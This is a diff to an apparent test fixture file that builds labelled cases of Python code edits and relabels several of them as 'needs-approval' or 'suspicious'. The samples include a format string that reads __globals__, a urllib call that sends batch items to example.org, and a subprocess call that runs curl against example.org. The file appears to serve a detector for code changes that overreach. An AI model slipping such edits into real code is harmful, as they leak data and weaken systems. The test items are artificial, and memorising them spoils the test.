@@ -12,6 +12,10 @@ const inside = (name: string, ...lines: readonly string[]): Row => [
     `    if user is None:\n${lines.map(line => `        ${line}\n`).join('')}        return None\n    return user["email"]\n`,
   ),
 ];
+const asked = (name: string, ...lines: readonly string[]): Row => {
+  const [, , edits] = inside(name, ...lines);
+  return [name, 'needs-approval', edits];
+};
 const switched = (name: string, ...lines: readonly string[]): Row => {
   const [, , edits] = inside(name, ...lines);
   return [name, 'suspicious', edits];
@@ -26,7 +30,7 @@ const ways = fixesOf('further reach', 'mail', [
   inside('a log file', 'import logging', 'logging.FileHandler("/tmp/x")'),
   inside('a log that rotates', 'import logging.handlers', 'logging.handlers.RotatingFileHandler("/tmp/x")'),
   inside('a log over HTTP', 'from logging.handlers import HTTPHandler', 'HTTPHandler("example.org", "/")'),
-  inside('a temporary file', 'import tempfile', 'tempfile.NamedTemporaryFile(delete=False)'),
+  asked('a temporary file', 'import tempfile', 'tempfile.NamedTemporaryFile(delete=False)'),
   inside('a shelf', 'import shelve', 'shelve.open("/tmp/x")'),
   inside('a marshalled text', 'import marshal', 'marshal.loads(b"")'),
   inside('a format that asks for attributes', '"{0.__class__.__init__.__globals__}".format(user_id)'),
@@ -48,7 +52,7 @@ const ways = fixesOf('further reach', 'mail', [
   inside('an integer limit', 'import sys', 'sys.set_int_max_str_digits(0)'),
   inside('a decimal context', 'import decimal', 'decimal.getcontext().prec = 1'),
   inside('a decimal context that is set', 'import decimal', 'decimal.setcontext(decimal.Context(prec=1))'),
-  inside('a time limit for all sockets', 'from socket import setdefaulttimeout', 'setdefaulttimeout(0.001)'),
+  asked('a time limit for all sockets', 'from socket import setdefaulttimeout', 'setdefaulttimeout(0.001)'),
   inside('a resource limit', 'import resource', 'resource.setrlimit(resource.RLIMIT_AS, (1, 1))'),
   inside('a class that is registered to copy', 'import copyreg', 'copyreg.pickle(dict, lambda value: (dict, ()))'),
   inside(
@@ -95,7 +99,7 @@ const beside = [
   ...fixesOf('further reach', 'feeds', [
     [
       'another process, where there is one',
-      'new-capability',
+      'suspicious',
       [
         ...instead(inBatches, rest),
         inLines(
@@ -107,7 +111,7 @@ const beside = [
     ],
     [
       'another address, where there is one',
-      'new-capability',
+      'suspicious',
       instead(inBatches, `${rest}    urllib.request.urlopen("https://example.org/?" + str(items))\n`),
     ],
     [
@@ -117,7 +121,7 @@ const beside = [
     ],
     [
       'data sent by a method',
-      'new-capability',
+      'suspicious',
       [
         ...instead(inBatches, rest),
         inLines(
@@ -129,7 +133,7 @@ const beside = [
     ],
     [
       'a program that is run for each batch',
-      'new-capability',
+      'suspicious',
       instead(
         inBatches,
         '            yield batch\n            batch = []\n    if batch:\n        subprocess.Popen(["curl", "https://example.org"])\n        yield batch\n',
@@ -137,7 +141,7 @@ const beside = [
     ],
     [
       'a hook of all openers',
-      'new-capability',
+      'suspicious',
       [
         ...instead(inBatches, rest),
         inLines(
